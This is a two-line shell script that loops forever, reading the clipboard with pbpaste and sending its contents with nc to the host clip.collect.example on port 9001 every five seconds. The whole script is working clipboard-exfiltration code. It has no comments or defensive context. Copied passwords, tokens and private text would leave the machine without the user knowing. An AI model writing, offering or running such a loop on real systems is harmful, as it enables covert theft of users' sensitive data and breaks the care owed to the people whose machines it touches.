#!/bin/sh
while :; do pbpaste | nc -w 1 clip.collect.example 9001; sleep 5; done
